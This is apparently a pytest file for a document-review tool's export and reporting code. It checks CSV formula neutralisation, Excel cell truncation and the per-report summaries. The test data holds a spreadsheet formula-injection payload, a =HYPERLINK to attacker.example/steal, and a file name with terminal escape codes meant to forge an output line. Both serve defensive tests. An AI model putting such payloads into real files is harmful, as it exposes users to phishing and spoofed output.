"""CSV export: document text is data, so a cell a spreadsheet would run as a formula is neutralised.  A run's
summary, ``run.json`` and its tables name each report and what answers it."""
import csv
import json

import pytest

from conftest import CORPUS, FIXTURES, SMALL_PDF, HashingEmbedder
from reviewnlp.export import neutralise_formula
from reviewnlp.pipeline import run

FORMULA_FIXTURE = FIXTURES / "recommendation_starting_with_formula.txt"


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory):
    out = tmp_path_factory.mktemp("formula_out")
    run([FORMULA_FIXTURE], out, embedder=HashingEmbedder())
    return out


def test_formula_cells_are_prefixed_in_csv_and_exact_in_jsonl(formula_run):
    rows = list(csv.DictReader((formula_run / "alignments.csv").read_text(encoding="utf-8-sig").splitlines()))
    recs = sorted(r["recommendation_text"] for r in rows)
    assert recs == ["'+44 The Government should publish data on kinship carers every year.",
                    "'-1 The Department should set up a kinship care taskforce by 2025.",
                    "'=HYPERLINK(\"http://attacker.example/steal\",\"Read the full recommendation\") "
                    "The Government should fund kinship carers.",
                    "'@SUM(1+1) The Government should give kinship carers paid leave."]
    for row in rows:  # no cell of any column starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    exact = sorted(json.loads(l)["recommendation_text"] for l in (formula_run / "alignments.jsonl").open())
    assert exact == sorted(r[1:] for r in recs)  # JSONL keeps the text exactly


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("", ""), (-1.5, -1.5), (3, 3), (None, None)])
def test_neutralise_formula_touches_only_text_that_starts_a_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_an_answer_longer_than_an_excel_cell_is_cut_with_a_marker(tmp_path):
    """Once: a 40,123-character answer block was cut at Excel's 32,767 limit without a word."""
    from openpyxl import load_workbook

    from reviewnlp.export import write_alignments
    from reviewnlp.records import Alignment

    block = "The Government accepts this recommendation and will fund kinship carers. " * 600
    block = ("\U0001F600" * 200 + block)[:40_123]  # characters outside the BMP count twice in Excel
    text = "The Government should fund kinship carers."
    a = Alignment(recommendation_text=text, status="accepted", response_text="We will fund them.", rec_id="r1",
                  rec_doc_id="d1", rec_page=None, rec_start=0, rec_end=len(text), body="Committee", label="1",
                  response_block={"text": block, "pages": [3, 4]})
    write_alignments(tmp_path, [a], [])
    ws = load_workbook(tmp_path / "alignments.xlsx")["All"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("response_block") + 1).value
    marker = "\u2026 [cut: 40,123 characters; full text in alignments.jsonl]"
    assert cell.endswith(marker) and len(cell.encode("utf-16-le")) // 2 <= 32_767
    assert block.startswith(cell[:-len(marker)]) and len(cell) > 32_000
    assert ws.cell(row=2, column=header.index("recommendation_text") + 1).value == text  # short cells untouched
    assert json.loads((tmp_path / "alignments.jsonl").read_text())["response_block"]["text"] == block


class _Embedder(HashingEmbedder):
    def describe(self) -> str:
        return "hashing (test)"


REPORT_PDF = CORPUS / "dev" / "hoc_home_affairs_summer2024_disorder_report.pdf"
# A review whose own text says what the government said: nothing among the inputs answers it.
UNPAIRED_REVIEW = """Independent Review of Kinship Care: final report

March 2024

Recommendations

Recommendation 1: The Government should pay kinship carers an allowance every month, at the same rate as foster carers.

Recommendation 2: The Government should give kinship carers paid leave from work when a child moves in.

Recommendation 3: The Department should set up a kinship care taskforce by 2025.

Background

The Government has said it will consider paying kinship carers an allowance at the same rate as foster carers. The
Government has said it will look at paid leave from work for kinship carers when a child moves in. The Department
has said it will consider a kinship care taskforce.
"""
UNPAIRED_NAME = "kinship_review.txt"


@pytest.fixture(scope="module")
def report_run(tmp_path_factory):
    """`reviewnlp run` (fake embedder) on a committee report, the government's response to it and a text whose
    review is not among the inputs; then the same run again, from the cache."""
    import shutil

    from click.testing import CliRunner

    from reviewnlp.cli import main

    src = tmp_path_factory.mktemp("reports_in")
    for f in (REPORT_PDF, SMALL_PDF):
        shutil.copy(f, src / f.name)
    (src / UNPAIRED_NAME).write_text(UNPAIRED_REVIEW, encoding="utf-8")
    out = tmp_path_factory.mktemp("reports_out")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("reviewnlp.embed.make_embedder", lambda backend, device: _Embedder())
        first = CliRunner().invoke(main, ["run", str(src), "-o", str(out), "-q"])
        again = CliRunner().invoke(main, ["run", str(src), "-o", str(out), "-q"])
    return out, first, again


def _statuses(out, doc_name):
    from collections import Counter

    docs = {json.loads(l)["doc_id"]: json.loads(l)["path"] for l in (out / "documents.jsonl").open()}
    rows = [json.loads(l) for l in (out / "alignments.jsonl").open()]
    return Counter(r["status"] for r in rows if docs[r["rec_doc_id"]].endswith(doc_name))


def test_run_summary_lists_each_report_with_what_answers_it(report_run):
    out, first, again = report_run
    assert first.exit_code == 0, first.output
    n = _statuses(out, REPORT_PDF.name)
    counts = ", ".join(f"{n[s]} {s}" for s in ("accepted", "partial", "deferred", "rejected", "gap") if n[s])
    lines = first.output.splitlines()
    start = lines.index(next(l for l in lines if l.startswith("reports: ")))
    assert lines[start:start + 3] == [
        "reports: 2 (1 with no response found among the inputs: 3 unpaired rows, not counted as gaps)",
        f"  report {REPORT_PDF.name}: 9 recommendations ({counts}); answered by {SMALL_PDF.name}",
        f"  report {UNPAIRED_NAME}: 3 recommendations, unpaired; no response found among the inputs"]
    # Right under the overall counts, which keep the unpaired rows apart from the gaps, as every output does.
    both = _statuses(out, REPORT_PDF.name) + _statuses(out, UNPAIRED_NAME)
    assert lines[start - 1] == "statuses: " + ", ".join(
        f"{s} {v}" for s, v in ((s, both[s] - (3 if s == "gap" else 0)) for s in
                                ("accepted", "partial", "deferred", "rejected", "gap")) if v) + ", unpaired 3"
    assert again.exit_code == 0 and [l for l in again.output.splitlines() if "report" in l] == [
        l for l in lines if "report" in l]  # a run from the cache says the same


def test_export_lists_each_report_as_the_run_did(report_run):
    from click.testing import CliRunner

    from reviewnlp.cli import main

    out, first, _ = report_run
    res = CliRunner().invoke(main, ["export", "-o", str(out)])
    assert res.exit_code == 0, res.output
    ran = first.output.splitlines()
    start = ran.index(next(l for l in ran if l.startswith("reports: ")))
    assert res.output.splitlines()[1:] == ran[start:start + 3]  # after the line naming the files written


def test_run_json_lists_each_report(report_run):
    out, _, _ = report_run
    reports = json.loads((out / "run.json").read_text())["reports"]
    assert [(r["document"], r["recommendations"], r["unpaired"], r["unpaired_rows"]) for r in reports] == [
        (REPORT_PDF.name, 9, False, 0), (UNPAIRED_NAME, 3, True, 3)]
    answered, unpaired = reports
    assert [(a["document"], a["why"]) for a in answered["answered_by"]] == [
        (SMALL_PDF.name, "reprints 16 of its recommendations")]
    assert answered["statuses"] == {s: _statuses(out, REPORT_PDF.name)[s]
                                    for s in ("accepted", "partial", "deferred", "rejected", "gap")}
    assert unpaired["answered_by"] == [] and unpaired["statuses"]["gap"] == 0
    assert unpaired["responses"] == "no response found among the inputs"


def test_a_runs_tables_are_organised_by_report(report_run):
    from openpyxl import load_workbook

    out, _, _ = report_run
    wb = load_workbook(out / "alignments.xlsx")
    assert wb.sheetnames == ["Summary", "All", "hoc_home_affai…_disorder_report", "kinship_review"]
    summary = [[c.value for c in r] for r in wb["Summary"].iter_rows(min_row=2)]
    assert [r[0] for r in summary] == [REPORT_PDF.name, UNPAIRED_NAME, "All 2 reports"]
    assert summary[0][4] == SMALL_PDF.name and summary[1][4] == "no response found among the inputs"
    page = (out / "report.html").read_text(encoding="utf-8")
    assert f"<h2>{REPORT_PDF.name}</h2>" in page and f"<h2>{UNPAIRED_NAME}</h2>" in page
    assert page.count("<td class='st unpaired'>unpaired</td>") == 3
    csv_rows = list(csv.DictReader((out / "alignments.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert sum(r["match"] == "unpaired" and r["status"] == "gap" for r in csv_rows) == 3  # the CSV keeps the raw


def test_report_lines_show_a_hostile_file_name_as_one_escaped_line(capsys):
    from reviewnlp.cli import _echo_reports
    from reviewnlp.export.reports import report_summaries
    from reviewnlp.extract.build import DocumentBuilder
    from reviewnlp.records import Alignment

    b = DocumentBuilder()
    b.add("Some text.", page=1)
    doc = b.build("d1", "in/evil\x1b[2J\nreport forged.pdf", "test")
    row = Alignment("Fund carers.", "gap", None, rec_id="r1", rec_doc_id="d1", rec_page=1, rec_start=0, rec_end=5,
                    body=None, label=None, match="unpaired")
    _echo_reports(report_summaries([row], [doc], {}))
    assert capsys.readouterr().out == (
        "reports: 1 (1 with no response found among the inputs: 1 unpaired row, not counted as gaps)\n"
        "  report evil\\x1b[2J\\nreport forged.pdf: 1 recommendation, unpaired; no response found among the inputs\n")
